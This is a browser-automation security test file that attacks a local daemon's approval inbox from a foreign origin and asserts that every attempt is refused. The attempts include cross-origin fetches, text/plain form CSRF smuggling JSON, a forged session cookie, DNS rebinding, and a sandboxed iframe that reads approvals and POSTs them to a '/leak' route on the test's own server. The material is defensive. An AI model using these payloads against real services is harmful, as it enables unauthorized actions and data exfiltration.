/**
 * A server on another port of this machine, in the same browser profile as the inbox: it obtains nothing and changes nothing.
 *
 * Every route of the OpenAPI document is tried by every means a page has. What the browser really sends and the daemon really answers is
 * read from the browser itself, because pages are not shown it.
 */
import { readdir } from 'node:fs/promises';
import http from 'node:http';

import { URL_, WORKSPACE, api, browser, card, check, inbox, link, live, question, run, same, until, waiting } from './lab.mjs';

const context = await browser();

/** The other server: a page, a script, and a list of what it was sent. */
const heard = [];
const other = http.createServer((request, response) => {
  let body = '';
  request.on('data', (piece) => { body += piece; });
  request.on('end', () => {
    heard.push({ method: request.method, url: request.url, headers: request.headers, body });
    response.writeHead(200, { 'content-type': 'text/html', 'set-cookie': 'palyra.session=forged; Path=/', 'service-worker-allowed': '/' });
    response.end('<!doctype html><title>another origin</title><body>another origin</body>');
  });
});
await new Promise((resolve) => other.listen(0, '127.0.0.1', resolve));
const port = other.address().port;
const OTHERS = [`http://127.0.0.1:${port}`, `http://localhost:${port}`];

const console_ = await inbox(context);
const { asked, outcome } = await question(['echo', 'do not run'], { wait: false });
await card(console_, asked).waitFor();
const bearer = await console_.evaluate(() => JSON.parse(sessionStorage.getItem('palyra.session')).bearer);
const unused = await link();
const code = new URL(unused).hash.slice('#code='.length);

/** What a person would be worried to find in a request, or in what a page could read. */
const secrets = [bearer, code];
const routes = await everyRoute();
const before = await state();

/** Every route, with real ids in its path. */
async function everyRoute() {
  const { paths } = (await api('GET', '/openapi.json', { bearer: null })).said;
  const [{ devices: [device] }, { tokens: [token] }] = await Promise.all(['devices', 'tokens'].map(async (name) => (await api('GET', `/api/v1/${name}`)).said));
  const ids = { id: asked.id, seq: '0', user: 'owner', name: 'rbac' };
  const known = { calls: asked.call, runs: asked.run, devices: device.id, tokens: token.id };
  const all = Object.entries(paths).flatMap(([path, methods]) => Object.keys(methods).map((method) => ({
    method: method.toUpperCase(),
    path: path.replace(/\{(\w+)\}/g, (_, name) => known[path.split('/')[3]] ?? ids[name] ?? asked.id),
    body: bodyOf(path),
  })));
  const files = await readdir(new URL('../../web/inbox', import.meta.url));
  for (const path of ['/', ...files.filter((name) => name !== 'index.html').map((name) => `/${name}`)]) all.push({ method: 'GET', path });
  return all;
}

function bodyOf(path) {
  if (/\/(approve|deny)$/.test(path)) return { digest: asked.digest };
  if (path === '/api/v1/calls') return { tool: 'process.run', workspace: WORKSPACE, args: { command: ['echo', 'forged'] }, wait: false };
  if (path === '/api/v1/console/session') return { code };
  if (path === '/api/v1/postures') return { layer: 'global', key: '', tool: 'process.run', posture: 'always_allow' };
  return {};
}

/** Everything that a foreign page might have changed. */
async function state() {
  const names = ['approvals', 'grants', 'postures', 'devices', 'tokens', 'members', 'flags', 'journal/records?limit=1000'];
  const [approvals, grants, postures, devices, tokens, members, flags, { records }] = await Promise.all(names.map(async (name) => (await api('GET', `/api/v1/${name}`)).said));
  return {
    waiting: approvals.approvals.map(({ id, state }) => ({ id, state })), grants, postures, members, flags,
    // Links are used here meanwhile, and whoever is not let in is counted.
    records: records.map(({ kind }) => kind).filter((kind) => kind !== 'console.opened' && kind !== 'access.refused'),
    devices: devices.devices.map(({ id, state }) => ({ id, state })), tokens: tokens.tokens.map(({ id, state }) => ({ id, state })),
  };
}

/** A tab on the other origin, and all that it sends to the daemon and is answered. */
async function foreign(address) {
  const page = await context.newPage();
  const devtools = await context.newCDPSession(page);
  await devtools.send('Network.enable');
  const exchanges = new Map();
  const of = (id) => exchanges.get(id) ?? exchanges.set(id, {}).get(id);
  devtools.on('Network.requestWillBeSent', ({ requestId, request }) => Object.assign(of(requestId), { url: request.url, method: request.method }));
  devtools.on('Network.requestWillBeSentExtraInfo', ({ requestId, headers }) => { of(requestId).headers = headers; });
  devtools.on('Network.responseReceivedExtraInfo', ({ requestId, statusCode }) => { of(requestId).status = statusCode; });
  await page.goto(address);
  return { page, sent: () => [...exchanges.values()].filter(({ url }) => url?.startsWith(`${URL_}/`)) };
}

async function fetching() {
  for (const address of OTHERS) {
    const { page, sent } = await foreign(address);
    const got = await page.evaluate(async ({ base, routes, guess }) => {
      const found = [];
      const attempt = async (name, request) => {
        try {
          const answer = await fetch(...request);
          const text = await answer.text();
          if (answer.type !== 'opaque' || text !== '') found.push(`${name} read ${answer.status} ${text.slice(0, 80)}`);
        } catch { /* refused, as it should be */ }
      };
      for (const { method, path, body } of routes) {
        const url = base + path;
        const content = method === 'GET' || method === 'HEAD' ? undefined : JSON.stringify(body ?? {});
        await attempt(`${method} ${path}`, [url, { method, body: content, credentials: 'include' }]);
        await attempt(`${method} ${path} as JSON`, [url, { method, body: content, credentials: 'include', headers: { 'content-type': 'application/json', authorization: `Bearer ${guess}` } }]);
        // A request that a browser asks nobody's leave for.
        const simple = method === 'GET' ? 'GET' : 'POST';
        await attempt(`${simple} ${path} without leave`, [url, { method: simple, mode: 'no-cors', body: content, credentials: 'include', headers: { 'content-type': 'text/plain' } }]);
        if (content !== undefined) navigator.sendBeacon(url, content);
      }
      return found;
    }, { base: URL_, routes, guess: 'plr_guess' });
    same(`${address}: no answer can be read by fetch`, got, []);
    await page.waitForTimeout(300);
    const answered = sent().filter(({ status }) => status !== undefined);
    check(`${address}: the daemon was reached`, answered.length >= routes.length, answered.length);
    const let_in = answered.filter(({ status, method, url }) => status !== 403 && !(status === 0)).map(({ status, method, url }) => `${method} ${url} ${status}`);
    same(`${address}: whatever is sent from there is refused`, let_in, []);
    const carried = answered.filter(({ headers }) => Object.keys(headers ?? {}).some((name) => name.toLowerCase() === 'authorization' && headers[name] !== 'Bearer plr_guess'));
    same(`${address}: no credential goes along`, carried, []);
    await page.close();
  }
  same('nothing has changed by fetch', await state(), before);
}

async function tags() {
  const { page, sent } = await foreign(OTHERS[0]);
  const loaded = await page.evaluate(async ({ base, routes }) => {
    const found = [];
    const globals = new Set(Object.keys(window));
    const kinds = [['script', 'src'], ['img', 'src'], ['link', 'href'], ['audio', 'src'], ['embed', 'src'], ['object', 'data']];
    const waits = [];
    for (const { path } of routes.filter(({ method }) => method === 'GET')) {
      for (const [kind, attribute] of kinds) {
        waits.push(new Promise((resolve) => {
          const element = document.createElement(kind);
          if (kind === 'link') element.rel = 'stylesheet';
          element.onload = () => { if (kind !== 'object' && kind !== 'embed') found.push(`${kind} ${path}`); resolve(); };
          element.onerror = () => resolve();
          element[attribute] = base + path;
          document.body.append(element);
          setTimeout(resolve, 1500);
        }));
      }
      waits.push(import(base + path).then(() => found.push(`import ${path}`), () => undefined));
    }
    await Promise.all(waits);
    for (const name of Object.keys(window)) if (!globals.has(name) && !/^\d+$/.test(name)) found.push(`global ${name}`);
    return found;
  }, { base: URL_, routes });
  same('no tag loads anything from the daemon', loaded, []);
  const let_in = sent().filter(({ status }) => status !== undefined && status !== 403).map(({ method, url, status }) => `${method} ${url} ${status}`);
  same('every tag is refused', let_in, []);
  await page.close();
}

async function streams() {
  const { page } = await foreign(OTHERS[0]);
  const got = await page.evaluate(async ({ base }) => {
    const found = [];
    const waits = ['/api/v1/events', '/api/v1/events?after=0'].map((path) => new Promise((resolve) => {
      const source = new EventSource(base + path, { withCredentials: true });
      source.onopen = () => found.push(`opened ${path}`);
      source.onmessage = () => found.push(`message ${path}`);
      source.onerror = () => { source.close(); resolve(); };
      setTimeout(resolve, 2000);
    }));
    for (const path of ['/', '/api/v1/events', '/api/v1/calls']) {
      waits.push(new Promise((resolve) => {
        const socket = new WebSocket(base.replace('http', 'ws') + path);
        socket.onopen = () => { found.push(`socket ${path}`); resolve(); };
        socket.onerror = () => resolve();
        setTimeout(resolve, 2000);
      }));
    }
    await Promise.all(waits);
    await navigator.serviceWorker?.register(`${base}/inbox.js`).then(() => found.push('service worker'), () => undefined);
    return found;
  }, { base: URL_ });
  same('neither an event stream nor a socket opens', got, []);
  await page.close();
}

async function frames() {
  const { page, sent } = await foreign(OTHERS[0]);
  const seen = await page.evaluate(async ({ base, address }) => {
    const found = [];
    const waits = ['/', '/api/v1/approvals', '/openapi.json', '/healthz'].map((path) => new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.src = base + path;
      frame.onload = () => {
        try {
          if (frame.contentWindow.sessionStorage || frame.contentDocument) found.push(`looked into ${path}`);
        } catch { /* another origin, or nothing */ }
        resolve();
      };
      document.body.append(frame);
      setTimeout(resolve, 2000);
    }));
    // A page without an origin.
    const sandboxed = document.createElement('iframe');
    sandboxed.sandbox.add('allow-scripts');
    sandboxed.srcdoc = `<script>fetch(${JSON.stringify(`${base}/api/v1/approvals`)}, { credentials: 'include' }).then((answer) => answer.text()).then((text) => fetch(${JSON.stringify(`${address}/leak`)}, { method: 'POST', mode: 'no-cors', body: text }))</${'script'}>`;
    document.body.append(sandboxed);
    await Promise.all(waits);
    await new Promise((resolve) => setTimeout(resolve, 500));
    return found;
  }, { base: URL_, address: OTHERS[0] });
  same('a frame shows nothing of the daemon', seen, []);
  const shown = page.frames().filter((frame) => frame.url().startsWith(`${URL_}/`)).length;
  const texts = await Promise.all(page.frames().slice(1).map((frame) => frame.evaluate(() => document.querySelector('#inbox, pre')?.textContent ?? '').catch(() => '')));
  check('the page does not let itself be framed', shown === 0 || texts.every((text) => !text.includes('approvals')), { shown, texts });
  same('nor is it sent to a frame', sent().filter(({ status }) => status === 200).map(({ url }) => url), []);
  same('a page without an origin learns nothing', heard.filter(({ url }) => url === '/leak').length, 0);
  await page.close();
}

async function forms() {
  const { page, sent } = await foreign(OTHERS[0]);
  for (const { path, body } of routes.filter(({ method }) => method !== 'GET')) {
    await page.evaluate(({ url, body }) => {
      const form = document.createElement('form');
      const field = document.createElement('input');
      const frame = document.createElement('iframe');
      frame.name = `frame${Math.random()}`;
      // Such a form sends `name=value`, which these two make JSON.
      const text = JSON.stringify(body ?? {}).slice(0, -1);
      Object.assign(field, { name: `${text}${text.length > 1 ? ',' : ''}"x":"`, value: '"}' });
      Object.assign(form, { action: url, method: 'POST', enctype: 'text/plain', target: frame.name });
      form.append(field);
      document.body.append(frame, form);
      form.submit();
    }, { url: URL_ + path, body });
  }
  const posts = routes.filter(({ method }) => method !== 'GET').length;
  await until('all forms are answered', () => sent().filter(({ status }) => status !== undefined).length >= posts);
  same('every form is refused', [...new Set(sent().map(({ status }) => status))], [403]);
  // The same as a whole page, where the browser names the place it comes from.
  await page.evaluate(({ url }) => {
    const form = document.createElement('form');
    Object.assign(form, { action: url, method: 'POST', enctype: 'text/plain' });
    document.body.append(form);
    form.submit();
  }, { url: `${URL_}/api/v1/approvals/${asked.id}/deny` });
  await page.waitForURL(`${URL_}/**`);
  check('nor does a page that it leads to show anything', (await page.textContent('body')).includes('foreign_origin'));
  same('nothing has changed by forms', await state(), before);
  await page.close();
}

async function windows() {
  const { page } = await foreign(OTHERS[0]);
  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    page.evaluate((url) => { window.other = window.open(url, 'console'); }, `${URL_}/`),
  ]);
  await opened.waitForLoadState();
  await opened.locator('#signed-out').waitFor();
  check('a window that it opens is not signed in', await opened.locator('#signed-out').isVisible());
  const reach = await page.evaluate(() => {
    const found = [];
    for (const look of [() => window.other.document.title, () => window.other.sessionStorage.length, () => window.other.location.href, () => window.other.frames.length]) {
      try {
        found.push(String(look()));
      } catch { /* another origin */ }
    }
    return { closed: window.other.closed, found: found.filter((each) => each !== '0') };
  });
  same('and is out of its reach', reach, { closed: true, found: [] });
  same('nor does that window know who opened it', await opened.evaluate(() => window.opener), null);
  await opened.close();
  await page.close();

  const [fromConsole] = await Promise.all([
    context.waitForEvent('page'),
    console_.evaluate((url) => { window.open(url); }, `${OTHERS[0]}/opened`),
  ]);
  await fromConsole.waitForLoadState();
  const known = await fromConsole.evaluate(() => [window.opener, document.referrer, sessionStorage.length, document.cookie.includes('plr_')]);
  same('a window that the console opens knows nothing of it', known, [null, '', 0, false]);
  await fromConsole.close();
}

async function sameTab() {
  const tab = await inbox(context);
  const text = await tab.evaluate(() => JSON.stringify({ ...sessionStorage }));
  await tab.evaluate((url) => { location.href = url; }, `${OTHERS[0]}/same-tab`);
  await tab.waitForURL(`${OTHERS[0]}/**`);
  const known = await tab.evaluate(async () => JSON.stringify([
    { ...sessionStorage }, { ...localStorage }, document.cookie, document.referrer, window.name, history.state,
    await (indexedDB.databases?.() ?? []), performance.getEntriesByType('navigation').map((entry) => entry.name), await caches?.keys?.() ?? [],
  ]));
  check('the same tab on another origin knows nothing', !secretsIn(known) && !known.includes(JSON.parse(JSON.parse(text)['palyra.session']).bearer), known);
  await tab.goBack();
  await live(tab);
  check('and the console is signed in when it is back', await tab.locator('#sign-out').isVisible());
  // The address of a link, while it is still in use, does not leave either.
  await tab.goto(unused);
  await live(tab);
  await tab.evaluate((url) => { location.href = url; }, `${OTHERS[0]}/after-link`);
  await tab.waitForURL(`${OTHERS[0]}/**`);
  await tab.close();
}

async function cookies() {
  const kept = await context.cookies();
  same('the daemon sets no cookie', kept.filter(({ value }) => value !== 'forged'), []);
  check('a cookie that another port planted is sent to the daemon, too', kept.length > 0);
  same('and opens nothing', (await api('GET', '/api/v1/approvals', { bearer: null, headers: { cookie: `palyra.session=${bearer}; session=${bearer}; bearer=${bearer}` } })).status, 401);
}

async function rebinding() {
  const page = await context.newPage();
  const answer = await page.goto(`${URL_.replace('127.0.0.1', 'rebound.example')}/`);
  same('another name for this machine is refused', answer.status(), 400);
  same('with an error that says so', JSON.parse(await answer.text()).error.code, 'bad_host');
  await page.close();
}

function secretsIn(text) {
  return secrets.some((secret) => text.includes(secret));
}

async function afterwards() {
  same('nothing has changed at all', await state(), before);
  const leaked = heard.filter(({ headers, url, body }) => headers.authorization !== undefined || secretsIn(JSON.stringify([headers, url, body])) || (headers.referer ?? '').startsWith(URL_));
  same('the other server was sent no cookie of ours, no bearer, no code, no address of ours', leaked, []);
  check('the inbox is live all the while', await console_.locator('#state[data-state="live"]').isVisible());
  same('the question waits still', (await waiting()).map(({ id }) => id), [asked.id]);
  await card(console_, asked).locator('.answers [data-does="approve"]').click();
  await card(console_, asked).locator('.outcome').waitFor();
  await until('the inbox can answer it', async () => (await api('GET', `/api/v1/calls/${asked.call}`)).said.receipt);
  check('and the inbox can answer it', true);
  same('no violation and no error in the inbox', [console_.noted.errors, console_.noted.violations], [[], []]);
  await outcome;
  other.close();
}

await run([fetching, tags, streams, frames, forms, windows, rebinding, sameTab, cookies, afterwards]);
